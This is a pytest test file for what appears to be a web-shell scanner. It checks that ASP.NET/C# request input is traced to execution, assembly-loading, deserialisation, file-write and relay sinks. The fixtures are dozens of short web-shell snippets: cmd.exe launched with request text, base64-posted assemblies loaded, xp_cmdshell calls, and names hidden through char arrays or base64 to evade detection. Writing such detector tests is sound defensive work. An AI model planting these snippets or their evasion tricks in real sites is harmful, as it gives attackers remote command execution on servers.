"""ASP.NET (C#): page code extracted and request input followed to execution sinks."""

from __future__ import annotations

import pytest

from webhunt.detect.document import Document
from webhunt.detect.semantic import SemanticLayer
from webhunt.detect.semantic.aspx import extract, extract_razor, is_csharp
from webhunt.model import FileContext, Language, Reason, Verdict

CODE, CMD, DYN, INCLUDE, UPLOAD, CLASSLOAD = (
    "WH-S-ASPX-001",
    "WH-S-ASPX-002",
    "WH-S-ASPX-003",
    "WH-S-ASPX-004",
    "WH-S-ASPX-006",
    "WH-S-ASPX-007",
)


def analyse(page: str, relpath: str = "x.aspx") -> list[Reason]:
    data = page.encode("utf-8")
    ctx = FileContext(relpath=relpath, language=Language.ASPX, size=len(data))
    return SemanticLayer()(Document(data), ctx, _no_rescan)


def _no_rescan(data: bytes, ctx: FileContext) -> Verdict:
    raise AssertionError("the semantic layer never re-scans")


def test_extraction() -> None:
    page = (
        b'<%@ Page Language="C#" %>\n<script runat="server">void F() { }</script>\n'
        b"<script>var client = 1;</script><% int a = 1; %><%= a %><%-- <% bad %> --%>"
    )
    unit = extract(page)
    assert unit is not None
    assert b"void F() { }" in unit.source and b"int a = 1;" in unit.source
    assert b"Response.Write( a );" in unit.source
    assert b"client" not in unit.source and b"bad" not in unit.source
    assert not is_csharp(b'<%@ Page Language="VB" %><% Response.Write(1) %>')
    assert extract(b'<%@ Page Language="VB" %><% Shell(Request("c")) %>') is None


FLOWS = [
    (
        "process start",
        '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); %>',
        CMD,
    ),
    (
        "start info properties",
        '<% var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "cmd"; '
        'p.StartInfo.Arguments = Request.Form["a"]; p.Start(); %>',
        CMD,
    ),
    (
        "initializer",
        '<% var si = new ProcessStartInfo { FileName = "sh", Arguments = Request.QueryString["q"] }; '
        "Process.Start(si); %>",
        CMD,
    ),
    (
        "assembly load",
        '<% System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["d"]))'
        '.CreateInstance("U").Equals(this); %>',
        CLASSLOAD,
    ),
    (
        "binary read",
        "<% byte[] c = Request.BinaryRead(Request.ContentLength); Assembly.Load(c); %>",
        CLASSLOAD,
    ),
    (
        "reflection load",
        '<% byte[] d = Convert.FromBase64String(Context.Request["p"]); typeof(Assembly)'
        '.GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { d }); %>',
        CLASSLOAD,
    ),
    (
        "context request",
        "<% var r = HttpContext.Current.Request; "
        'System.Diagnostics.Process.Start("cmd.exe", r.Headers["X"]); %>',
        CMD,
    ),
    (
        "helper method",
        '<script runat="server">void Run(string s) { System.Diagnostics.Process.Start("cmd", s); }'
        '</script><% Run(Request.Cookies["c"].Value); %>',
        CMD,
    ),
    ("jscript eval", '<% Microsoft.JScript.Eval.JScriptEvaluate(Request.Item["p"], null); %>', CODE),
    ("server execute", '<% Server.Execute(Request["page"]); %>', INCLUDE),
    ("input-chosen method", '<% typeof(Foo).GetMethod(Request["m"]).Invoke(null, null); %>', DYN),
    ("roslyn scripting", '<% var r = CSharpScript.EvaluateAsync(Request["s"]).Result; %>', CODE),
    (
        "powershell runspace",
        "<% var rs = RunspaceFactory.CreateRunspace(); rs.Open(); var p = rs.CreatePipeline();"
        ' p.Commands.AddScript(Request.Form["ps"]); var r = p.Invoke(); %>',
        CMD,
    ),
    (
        "WMI Win32_Process.Create",
        '<% var c = new ManagementClass("Win32_Process"); var a = c.GetMethodParameters("Create");'
        ' a["CommandLine"] = Request.Form["q"]; c.InvokeMethod("Create", a, null); %>',
        CMD,
    ),
    (
        "upload name",
        '<% var f = Request.Files[0]; f.SaveAs(Server.MapPath("~/up/") + f.FileName); %>',
        UPLOAD,
    ),
    (
        "form field text to a start info held in a variable",
        '<%@ Page Language="C#" %><script runat="server">void Go(object s, EventArgs e) {'
        " var info = new System.Diagnostics.ProcessStartInfo(); string a = line.Text;"
        ' info.FileName = "cmd.exe"; info.Arguments = a; System.Diagnostics.Process.Start(info); }'
        '</script><form runat="server"><asp:TextBox id="line" runat="server"/></form>',
        CMD,
    ),
    (
        "AppDomain.Load of posted bytes",
        "<% byte[] d = Request.BinaryRead(Request.ContentLength);"
        ' System.AppDomain.CurrentDomain.Load(d).CreateInstance("U").Equals(this); %>',
        CLASSLOAD,
    ),
    (
        "Type.InvokeMember Load",
        "<% byte[] d = Request.BinaryRead(Request.ContentLength); typeof(System.Reflection.Assembly)"
        '.InvokeMember("Load", System.Reflection.BindingFlags.InvokeMethod, null, null, new object[] { d }); %>',
        CLASSLOAD,
    ),
    (
        "type and method names spelled from char arrays, called through InvokeMember",
        "<% var t = Type.GetType(new string(new char[] { 'S', 'y', 's', 't', 'e', 'm', '.', 'R', 'e', 'f', 'l', 'e',"
        " 'c', 't', 'i', 'o', 'n', '.', 'A', 's', 's', 'e', 'm', 'b', 'l', 'y' }));"
        ' byte[] d = Convert.FromBase64String(Request.Form["d"]);'
        " t.InvokeMember(new string(new char[] { 'L', 'o', 'a', 'd' }), System.Reflection.BindingFlags.InvokeMethod,"
        " null, null, new object[] { d }); %>",
        CLASSLOAD,
    ),
    (
        "a local delegate called by its name, its parameter written without parentheses",
        '<% Func<byte[], object> bring = raw => typeof(System.Reflection.Assembly).GetMethod("Load",'
        " new Type[] { typeof(byte[]) }).Invoke(null, new object[] { raw });"
        ' var o = bring(Convert.FromBase64String(Request["p"])); %>',
        CLASSLOAD,
    ),
    (
        "a one-parameter lambda without parentheses passing its argument to Process.Start",
        '<% Action<string> run = c => System.Diagnostics.Process.Start("cmd.exe", "/c " + c); run(Request["c"]); %>',
        CMD,
    ),
    (
        "method name joined by a params helper",
        '<%@ Page Language="C#" %><script runat="server">string J(params string[] p) { return string.Join("", p); }'
        ' void Page_Load(object s, EventArgs e) { var t = Type.GetType(J("System.Diagnostics.", "Process, System"));'
        ' t.GetMethod(J("St", "art"), new Type[] { typeof(string), typeof(string) })'
        '.Invoke(null, new object[] { "cmd", "/c " + Request.Form["v"] }); }</script>',
        CMD,
    ),
    (
        "method name decoded from base64 text",
        '<%@ Page Language="C#" %><script runat="server">'
        "static string D(string s) { return System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(s)); }"
        ' void Page_Load(object o, EventArgs e) { var m = typeof(System.Diagnostics.Process).GetMethod(D("U3RhcnQ="),'
        ' new Type[] { typeof(string), typeof(string) }); m.Invoke(null, new object[] { "cmd", Request["c"] }); }'
        "</script>",
        CMD,
    ),
    (
        "posted file read into a buffer and written where the form says",
        "<% var f = Request.Files[0]; byte[] b = new byte[f.ContentLength]; f.InputStream.Read(b, 0, b.Length);"
        ' System.IO.File.WriteAllBytes(Request.Form["path"], b); %>',
        "WH-S-ASPX-005",
    ),
    (
        "folder name rejected by a helper that only writes a message",
        '<%@ Page Language="C#" %><script runat="server">\n'
        "void Warn(string m) { Response.Write(m); }\n"
        "void Page_Load(object s, EventArgs e) {\n"
        '  Hashtable kinds = new Hashtable(); string dir = Request.QueryString["dir"];\n'
        '  if (!kinds.ContainsKey(dir)) { Warn("bad folder"); }\n'
        '  HttpPostedFile f = Request.Files[0]; string path = Server.MapPath("~/files/") + dir + "/";\n'
        '  f.SaveAs(path + System.Guid.NewGuid() + ".png"); }</script>',
        UPLOAD,
    ),
    (
        "posted bytes written where String.Format puts the client's name",
        "<% var f = Request.Files[0]; byte[] b = new byte[f.ContentLength]; f.InputStream.Read(b, 0, b.Length);"
        ' System.IO.File.WriteAllBytes(Server.MapPath(string.Format("~/up/{0}", f.FileName)), b); %>',
        "WH-S-ASPX-005",
    ),
    (
        "text written to a path mapped from the form",
        '<% System.IO.File.WriteAllText(Server.MapPath("~/" + Request.Form["n"]), Request.Form["b"]); %>',
        "WH-S-ASPX-005",
    ),
    (
        "upload control kept under the client's name",
        '<%@ Page Language="C#" %><script runat="server">void Up(object s, EventArgs e) {'
        ' fu.SaveAs(Server.MapPath("~/") + fu.FileName); }</script>'
        '<form runat="server"><asp:FileUpload ID="fu" runat="server"/></form>',
        UPLOAD,
    ),
    (
        "formatter deserialises request data",
        '<% var f = new System.Web.UI.LosFormatter(); object o = f.Deserialize(Request.Cookies["s"].Value); %>',
        CLASSLOAD,
    ),
    (
        "binary formatter over a stream of posted bytes",
        "<% var bf = new BinaryFormatter(); bf.Deserialize(new MemoryStream("
        'Convert.FromBase64String(Request.Form["d"]))); %>',
        CLASSLOAD,
    ),
    (
        "IL bytes from the request become a method",
        '<% var dm = new DynamicMethod("m", typeof(void), null); var il = dm.GetDynamicILInfo();'
        ' il.SetCode(Convert.FromBase64String(Request["il"]), 8); %>',
        CLASSLOAD,
    ),
    (
        "stylesheet from the request with scripts enabled",
        '<% var t = new XslCompiledTransform(); t.Load(XmlReader.Create(new StringReader(Request.Form["x"])),'
        " new XsltSettings(false, true), null); %>",
        CODE,
    ),
    (
        "stylesheet from the request, settings enabling scripts afterwards",
        "<% var st = new XsltSettings(); st.EnableScript = true; var t = new XslCompiledTransform();"
        ' t.Load(XmlReader.Create(new StringReader(Request["x"])), st, null); %>',
        CODE,
    ),
    (
        "stylesheet text filled into an XmlDocument, then compiled with scripts trusted",
        '<% var d = new XmlDocument(); d.LoadXml(Request.Form["x"]); var t = new XslCompiledTransform();'
        " t.Load(d, XsltSettings.TrustedXslt, null); %>",
        CODE,
    ),
    (
        "old XslTransform runs the scripts of a stylesheet from the request",
        '<% var t = new XslTransform(); t.Load(new XmlTextReader(new StringReader(Request["x"]))); %>',
        CODE,
    ),
    (
        "xp_cmdshell with request text",
        '<% var c = new SqlCommand("EXEC master..xp_cmdshell \'" + Request.Form["q"] + "\'", cn); %>',
        CMD,
    ),
    (
        "xp_cmdshell statement kept in a variable",
        '<% string sql = "exec xp_cmdshell \'" + Request["q"] + "\'"; var c = new SqlCommand(); c.CommandText = sql; %>',
        CMD,
    ),
    (
        "ASP.NET Core query collection",
        '<% System.Diagnostics.Process.Start("cmd.exe", "/c " + Context.Request.Query["c"]); %>',
        CMD,
    ),
]


@pytest.mark.parametrize(("name", "page", "expected"), FLOWS, ids=[f[0] for f in FLOWS])
def test_flow_is_found(name: str, page: str, expected: str) -> None:
    reasons = analyse(page)
    assert expected in {r.id for r in reasons}, [(r.id, r.description) for r in reasons]


def test_handler_file_is_analysed_as_csharp() -> None:
    handler = (
        '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web;\n'
        "public class H : IHttpHandler {\n  public void ProcessRequest(HttpContext context) {\n"
        '    System.Diagnostics.Process.Start("cmd.exe", "/c " + context.Request["c"]);\n  }\n}\n'
    )
    (flow,) = analyse(handler, "h.ashx")
    assert flow.id == CMD and flow.line == 5


_MODULE = (
    "using System;\nusing System.Web;\n"
    "public class M : IHttpModule {\n"
    "  public void Init(HttpApplication app) { app.BeginRequest += OnBegin; }\n"
    "  void OnBegin(object sender, EventArgs e) {\n"
    "    HttpApplication app = (HttpApplication)sender;\n"
    '    System.Diagnostics.Process.Start("cmd.exe", "/c " + app.Context.Request.Headers["X-C"]);\n'
    "  }\n  public void Dispose() {}\n}\n"
)


def test_app_code_class_is_analysed_as_a_whole_csharp_file() -> None:
    # no <% %> or <script runat="server"> markup: the file itself is the compilation unit
    (flow,) = analyse(_MODULE, "App_Code/M.cs")
    assert flow.id == CMD and flow.line == 7


def test_app_code_vb_class_goes_to_the_vbnet_pass() -> None:
    """``.vb`` code files are read by the VB.NET pass (tests/detect/test_semantic_vbnet.py), not
    parsed as C#."""
    vb = (
        "Public Class M : Implements IHttpModule\n"
        "  Private Sub OnBegin(ByVal sender As Object, ByVal e As EventArgs)\n"
        '    System.Diagnostics.Process.Start("cmd.exe", "/c " & HttpContext.Current.Request.Headers("X-C"))\n'
        "  End Sub\nEnd Class\n"
    )
    (flow,) = analyse(vb, "App_Code/M.vb")
    assert flow.id == CMD and flow.line == 3


BENIGN = [
    (
        "literal guard",
        '<% string m = Request["m"]; if (m == "ping" || m == "trace") '
        '{ System.Diagnostics.Process.Start("tool.exe", m); } %>',
    ),
    (
        "int parse",
        '<% int n = int.Parse(Request["n"]); System.Diagnostics.Process.Start("seq", n.ToString()); %>',
    ),
    ("constant command", '<% System.Diagnostics.Process.Start("iisreset.exe"); %>'),
    ("encoded output", '<%= Server.HtmlEncode(Request["q"]) %>'),
    (
        "text of a control that is not an input",
        '<%@ Page Language="C#" %><script runat="server">void Go(object s, EventArgs e) {'
        ' System.Diagnostics.Process.Start("report.exe", title.Text); }</script>'
        '<form runat="server"><asp:Label id="title" runat="server"/></form>',
    ),
    (
        "safe upload",
        '<% var f = Request.Files[0]; f.SaveAs(Server.MapPath("~/up/") + Guid.NewGuid() + ".png"); %>',
    ),
    (
        "upload control kept under a generated name",
        '<%@ Page Language="C#" %><script runat="server">void Up(object s, EventArgs e) {'
        ' fu.SaveAs(Server.MapPath("~/up/") + Guid.NewGuid() + System.IO.Path.GetExtension(".png")); }</script>'
        '<form runat="server"><asp:FileUpload ID="fu" runat="server"/></form>',
    ),
    (
        "request body stored in a fixed data file",
        "<% byte[] b = new byte[Request.InputStream.Length]; Request.InputStream.Read(b, 0, b.Length);"
        ' System.IO.File.WriteAllBytes(Server.MapPath("~/App_Data/last.json"), b); %>',
    ),
    (
        "site stylesheet with scripts, request only as a parameter",
        '<% var t = new XslCompiledTransform(); t.Load(Server.MapPath("~/r.xslt"), XsltSettings.TrustedXslt, null);'
        ' var a = new XsltArgumentList(); a.AddParam("m", "", Request["m"]); %>',
    ),
    (
        "site stylesheet filled into an XmlDocument, request only as a parameter",
        '<% var d = new XmlDocument(); d.Load(Server.MapPath("~/r.xslt")); var t = new XslCompiledTransform();'
        ' t.Load(d, XsltSettings.TrustedXslt, null); var a = new XsltArgumentList(); a.AddParam("m", "", Request["m"]); %>',
    ),
    (
        "stylesheet from the request, scripts left disabled",
        '<% var t = new XslCompiledTransform(); t.Load(XmlReader.Create(new StringReader(Request["x"])),'
        " XsltSettings.Default, null); %>",
    ),
    (
        "cache file deserialised",
        '<% var o = new BinaryFormatter().Deserialize(File.OpenRead(Server.MapPath("~/App_Data/c.bin"))); %>',
    ),
    (
        "folder name from the request rejected by a helper that ends the response",
        '<%@ Page Language="C#" %><script runat="server">\n'
        "void Fail(string m) { Response.Write(m); Response.End(); }\n"
        "void Page_Load(object s, EventArgs e) {\n"
        '  Hashtable kinds = new Hashtable(); kinds.Add("image", "png,jpg");\n'
        '  string dir = Request.QueryString["dir"];\n'
        '  if (!kinds.ContainsKey(dir)) { Fail("bad folder"); }\n'
        '  HttpPostedFile f = Request.Files[0]; string path = Server.MapPath("~/files/") + dir + "/";\n'
        '  f.SaveAs(path + System.Guid.NewGuid() + ".png"); }</script>',
    ),
    (
        "client name passed to a path formatter defined elsewhere",
        "<% var f = Request.Files[0]; byte[] b = new byte[f.ContentLength]; f.InputStream.Read(b, 0, b.Length);"
        ' System.IO.File.WriteAllBytes(Server.MapPath(NamePattern.Format(f.FileName, "{yyyy}/{rand:6}")), b); %>',
    ),
    (
        "a label spelled from a char array; an assembly loaded by InvokeMember from the site's own bin",
        "<% string t = new string(new char[] { 'R', 'e', 'p' }); byte[] img ="
        ' System.IO.File.ReadAllBytes(Server.MapPath("~/bin/R.dll")); Func<byte[], object> bring = raw =>'
        ' typeof(System.Reflection.Assembly).InvokeMember("Load", System.Reflection.BindingFlags.InvokeMethod,'
        ' null, null, new object[] { raw }); bring(img); Response.Write(t + Request["x"]); %>',
    ),
    (
        "xp_cmdshell status query with a bound parameter",
        "<% var c = new SqlCommand(\"SELECT value FROM sys.configurations WHERE name = 'xp_cmdshell'\", cn);"
        ' c.Parameters.AddWithValue("@s", Request["s"]); %>',
    ),
]


@pytest.mark.parametrize(("name", "page"), BENIGN, ids=[b[0] for b in BENIGN])
def test_guarded_or_harmless_input_is_not_reported(name: str, page: str) -> None:
    assert analyse(page) == []


def test_razor_code_blocks_are_analysed() -> None:
    view = (
        '@using System.Diagnostics\n@{\n    var c = Request.Query["c"];\n'
        '    var s = "{ not a block }";\n'
        '    var p = Process.Start(new ProcessStartInfo("cmd.exe", "/c " + c));\n}\n'
        "<p>@@{ literal }</p>\n@functions {\n    string Run(string a) { return a; }\n}\n"
    )
    unit = extract_razor(view.encode())
    assert unit is not None and b"string Run" in unit.source and b"literal" not in unit.source
    (flow,) = analyse(view, "v.cshtml")
    assert flow.id == CMD and flow.line == 5
    fixed = '@{ var s = Request.Query["s"]; Process.Start("sc.exe", "query W3SVC"); }'
    assert analyse(fixed, "v.cshtml") == []


def test_an_element_of_a_parameter_stays_a_parameter() -> None:
    # a helper indexing its argument: the placeholder for "argument 0" must survive the indexing
    page = (
        '<%@ Page Language="C#" %><script runat="server">'
        "string First(string[] parts) { return parts[0]; }"
        'void Go() { System.Diagnostics.Process.Start("cmd.exe", First(Request.Form.GetValues("c"))); }'
        "</script>"
    )
    assert CMD in {r.id for r in analyse(page)}


FORWARD = "WH-S-ASPX-014"


def test_request_body_posted_on_to_a_host_the_request_names_is_a_relay() -> None:
    page = (
        '<%@ Page Language="C#" %><% string to = Request.Form["srv"] + Request.Form["p"];'
        " byte[] b = new byte[Request.ContentLength]; Request.InputStream.Read(b, 0, b.Length);"
        ' HttpWebRequest w = (HttpWebRequest)WebRequest.Create(to); w.Method = "POST";'
        " Stream s = w.GetRequestStream(); s.Write(b, 0, b.Length); %>"
    )
    assert FORWARD in {r.id for r in analyse(page)}
    client = (
        '<%@ Page Language="C#" %><% byte[] b = Request.BinaryRead(Request.ContentLength);'
        ' Response.BinaryWrite(new WebClient().UploadData(Request.Headers["X-To"], "POST", b)); %>'
    )
    assert FORWARD in {r.id for r in analyse(client)}
    # forwarded only to the listed map services
    listed = (
        '<%@ Page Language="C#" %><% string u = Request.QueryString["url"];'
        " if (!allowed.Any(a => u.StartsWith(a))) { return; }"
        " WebRequest w = WebRequest.Create(u); Request.InputStream.CopyTo(w.GetRequestStream()); %>"
    )
    assert FORWARD not in {r.id for r in analyse(listed)}


def test_unicode_escaped_identifiers_are_read_as_the_compiler_reads_them() -> None:
    # C# reads \u0052 in an identifier as R; an escaped backslash starts no escape, and a string's
    # escaped non-identifier character (a quote, an accent) is left alone
    page = (
        '<%@ Page Language="C#" %>\n<%\nstring label = "caf\\u00e9 \\\\u0041";\n'
        'string c = \\u0052equest.Form["c"];\n'
        "System.Diagnostics.Pro\\u0063ess.St\\U00000061rt(c);\n%>"
    )
    reasons = analyse(page)
    hit = next(r for r in reasons if r.id == "WH-S-ASPX-002")
    assert hit.line == 5
    assert not {r.id for r in analyse(page.replace("\\u0052equest.Form", "Label1.ToolTip"))} & {
        "WH-S-ASPX-002"
    }


ROLE_HANDLER = (
    '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web;\npublic class H : IHttpHandler {\n'
    "{BEFORE}"
    " public void ProcessRequest(HttpContext context) {\n {GATE}\n"
    ' HttpPostedFile f = context.Request.Files[0]; f.SaveAs(context.Server.MapPath("~/up/") + f.FileName); }\n'
    " public bool IsReusable { get { return true; } } }"
)


@pytest.mark.parametrize(
    ("before", "gate", "low"),
    [
        ("", 'if (!context.User.IsInRole("Editors")) { context.Response.StatusCode = 403; return; }', True),
        (
            ' [System.Security.Permissions.PrincipalPermission(SecurityAction.Demand, Role = "Editors")]\n',
            "",
            False,
        ),
        # a check in a method the request never reaches, or one `&&` switches off
        (' void Check(HttpContext context) { if (!context.User.IsInRole("Editors")) return; }\n', "", False),
        ("", 'if (false && !context.User.IsInRole("Editors")) return;', False),
    ],
)
def test_a_role_check_at_the_top_of_the_handler_lowers_an_upload(before: str, gate: str, low: bool) -> None:
    page = ROLE_HANDLER.replace("{BEFORE}", before).replace("{GATE}", gate)
    (reason,) = [r for r in analyse(page, "h.ashx") if r.id == UPLOAD]
    assert (reason.score < 40) is low


def test_a_class_marked_for_a_role_lowers_its_uploads() -> None:
    page = (
        "using System.IO;\nusing System.Web.Mvc;\n"
        '[Authorize(Roles = "Editors")]\npublic class MediaController : Controller {\n'
        " public ActionResult Save() { var f = Request.Files[0];"
        ' f.SaveAs(Server.MapPath("~/media/") + f.FileName); return null; } }'
    )
    (reason,) = [r for r in analyse(page, "MediaController.cs") if r.id == UPLOAD]
    assert reason.score < 40


FILE = "WH-S-ASPX-012"

FILE_FLOWS = [
    ("File.Delete of a request path", '<% System.IO.File.Delete(Request.Form["f"]); %>'),
    (
        "helper moving a base64-decoded path",
        '<script runat="server">void Mv(string a, string b) { System.IO.Directory.Move(a, b); }'
        " string Un(string s) { return System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(s)); }</script>"
        '<% Mv(Un(Request["a"]), Request["b"]); %>',
    ),
    (
        "StreamWriter opened at a text box path",
        "<% var w = new System.IO.StreamWriter(txtPath.Text); w.Close(); %>",
    ),
    (
        "FileStream created at a request path",
        '<% var fs = new System.IO.FileStream(Request.Form["p"], System.IO.FileMode.Create); fs.Close(); %>',
    ),
    ("FileInfo deleted", '<% new System.IO.FileInfo(Request.QueryString["p"]).Delete(); %>'),
]


@pytest.mark.parametrize(("name", "page"), FILE_FLOWS, ids=[f[0] for f in FILE_FLOWS])
def test_request_chosen_file_is_found(name: str, page: str) -> None:
    page += '<asp:TextBox ID="txtPath" runat="server" />'  # the text box whose text is input
    reasons = analyse(page)
    assert FILE in {r.id for r in reasons}, [(r.id, r.description) for r in reasons]


FILE_SAFE = [
    (
        "file opened to read for a download",
        '<% var fs = new System.IO.FileStream(Server.MapPath("~/files/" + Request["f"]), System.IO.FileMode.Open,'
        " System.IO.FileAccess.Read); fs.CopyTo(Response.OutputStream); %>",
    ),
    (
        "file name stripped to its last part",
        '<% System.IO.File.Delete(System.IO.Path.Combine(Server.MapPath("~/App_Data/a"),'
        ' System.IO.Path.GetFileName(Request.Form["f"]))); %>',
    ),
    (
        "folder named from a parsed number",
        '<% int t = int.Parse(Request.Form["t"]); System.IO.Directory.Delete(Server.MapPath("~/tmp/" + t), true); %>',
    ),
    (
        "fixed file touched",
        '<% System.IO.File.SetLastWriteTime(Server.MapPath("~/app_offline.htm"), DateTime.Now); %>',
    ),
]


@pytest.mark.parametrize(("name", "page"), FILE_SAFE, ids=[f[0] for f in FILE_SAFE])
def test_fixed_or_stripped_file_is_not_reported(name: str, page: str) -> None:
    assert FILE not in {r.id for r in analyse(page)}


def test_verbatim_identifiers_are_read_as_the_compiler_reads_them() -> None:
    # C# reads @Start as Start; a keyword used as a name (@class) keeps its @, and an @ inside a
    # string, a verbatim string or a comment is text, not a name
    page = (
        '<%@ Page Language="C#" %>\n<%\nstring @class = Request.Form["c"];\n'
        'string note = "mail ops@example.org or @admin"; /* @Process */ string p = @"C:\\@x";\n'
        "System.Diagnostics.@Process.@Start(@class);\n%>"
    )
    hit = next(r for r in analyse(page) if r.id == CMD)
    assert hit.line == 5
    assert CMD not in {r.id for r in analyse(page.replace('Request.Form["c"]', '"notepad.exe"'))}


def test_verbatim_identifier_pass_keeps_offsets_and_text() -> None:
    from webhunt.detect.semantic.layer import _csharp_verbatim_identifiers

    src = b'var @p = @"x @y"; /* @z */ s = "@q"; c = \'@\'; @class k; @Process.@Start(@p); // @w'
    out = _csharp_verbatim_identifiers(src)
    assert len(out) == len(src)
    assert out == b'var  p = @"x @y"; /* @z */ s = "@q"; c = \'@\'; @class k;  Process. Start( p); // @w'
    assert _csharp_verbatim_identifiers(b"int a = 1;") == b"int a = 1;"


USING_HANDLER = (
    '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web;\n{USING}\n'
    "public class H : IHttpHandler {\n {OWN}\n public void ProcessRequest(HttpContext c) {\n"
    ' string v = c.Request.Form["v"];\n {CALL};\n }\n public bool IsReusable { get { return false; } } }'
)


@pytest.mark.parametrize(
    ("using", "call", "own", "expected"),
    [
        ("using P = System.Diagnostics.Process;", "P.Start(v)", "", CMD),
        ("using static System.Diagnostics.Process;", "Start(v)", "", CMD),
        (
            "using L = System.Reflection.Assembly;",
            "L.Load(System.Convert.FromBase64String(v))",
            "",
            CLASSLOAD,
        ),
        # the page's own Start hides the imported one; an alias of another type starts nothing
        (
            "using static System.Diagnostics.Process;",
            "Start(v)",
            "static string Start(string s) { return s; }",
            None,
        ),
        ("using P = System.Text.StringBuilder;", "new P().Append(v)", "", None),
    ],
)
def test_using_aliases_and_static_imports_name_the_type(
    using: str, call: str, own: str, expected: str | None
) -> None:
    page = USING_HANDLER.replace("{USING}", using).replace("{CALL}", call).replace("{OWN}", own)
    ids = {r.id for r in analyse(page, "h.ashx")}
    if expected is None:
        assert not ids & {CMD, CLASSLOAD}
    else:
        assert expected in ids


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ('System.Func<string, Process> f = Process.Start; f(Request["c"]);', CMD),
        ('var f = new System.Func<string, Process>(Process.Start); f.Invoke(Request.Form["c"]);', CMD),
        (
            "System.Func<byte[], Assembly> ld = Assembly.Load;"
            ' ld(Convert.FromBase64String(Request.Form["a"])).CreateInstance("X");',
            CLASSLOAD,
        ),
        # a method group of a harmless method, or the process API given a fixed name
        ('System.Func<string, string> f = Path.GetFileName; Response.Write(f(Request["c"]));', None),
        (
            'System.Func<string, Process> f = Process.Start; f("notepad.exe"); Response.Write(Request["c"]);',
            None,
        ),
    ],
)
def test_delegates_holding_method_groups_call_the_method(code: str, expected: str | None) -> None:
    page = (
        '<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %>'
        '<%@ Import Namespace="System.Reflection" %><%@ Import Namespace="System.IO" %><% ' + code + " %>"
    )
    ids = {r.id for r in analyse(page)}
    if expected is None:
        assert not ids & {CMD, CLASSLOAD}
    else:
        assert expected in ids


_SERVICE = (
    '<%@ WebService Language="C#" Class="S" %>\nusing System.IO;\nusing System.Web.Services;\n'
    "public class S : WebService {\n  {attr}\n  public string Save(string name, string body) {\n"
    '    File.WriteAllText(Server.MapPath("~/") + name, body);\n    return "ok";\n  }\n}\n'
)


@pytest.mark.parametrize(
    ("attr", "reported"),
    [
        ("[WebMethod]", True),
        ("[System.Web.Services.WebMethod(EnableSession = true)]", True),
        ("[WebMethodAttribute]", True),
        ("[Obsolete]", False),  # not published: a helper whose callers pass its arguments
        ("", False),
    ],
)
def test_published_method_parameters_are_request_input(attr: str, reported: bool) -> None:
    """ASP.NET fills a ``[WebMethod]``'s parameters from the client's request (a SOAP or JSON
    body), so a service method is as much an entry point as ``Page_Load``."""
    reasons = analyse(_SERVICE.replace("{attr}", attr), "s.asmx")
    assert (FILE in {r.id for r in reasons}) is reported, [(r.id, r.description) for r in reasons]
    if reported:
        assert "web method parameter name" in next(r.description for r in reasons if r.id == FILE)


def test_published_method_with_checked_or_unused_parameters_is_quiet() -> None:
    page = (
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "[System.Web.Services.WebMethod]\npublic static string Greeting(string name) {\n"
        '  return "Hello, " + HttpUtility.HtmlEncode(name);\n}\n'
        "[System.Web.Services.WebMethod]\npublic static void Report(string message) {\n"
        '  File.AppendAllText(HttpContext.Current.Server.MapPath("~/App_Data/r.log"), message);\n}\n'
        "</script>"
    )
    assert analyse(page) == []


def test_published_method_number_parameters_carry_no_text() -> None:
    service = _SERVICE.replace("{attr}", "[WebMethod]").replace("string name", "int name")
    assert FILE not in {r.id for r in analyse(service, "s.asmx")}


@pytest.mark.parametrize(
    ("code", "reported"),
    [
        ("Request.InputStream.CopyTo(ms); Assembly.Load(ms.ToArray());", True),
        ("Request.GetBufferlessInputStream().CopyTo(ms); AppDomain.CurrentDomain.Load(ms.ToArray());", True),
        ('File.OpenRead(Server.MapPath("~/bin/p.dll")).CopyTo(ms); Assembly.Load(ms.ToArray());', False),
        ("Request.InputStream.CopyTo(ms); var sum = MD5.Create().ComputeHash(ms.ToArray());", False),
    ],
)
def test_copyto_fills_the_destination_stream(code: str, reported: bool) -> None:
    """``stream.CopyTo(ms)`` fills the destination as ``Read`` fills an array: the request body
    copied into a MemoryStream and loaded is a loaded request (sweep 64); a file's content, or a
    body only hashed, is not."""
    page = (
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
        f"  var ms = new System.IO.MemoryStream(); {code}\n}}\n</script>"
    )
    assert (CLASSLOAD in {r.id for r in analyse(page)}) is reported
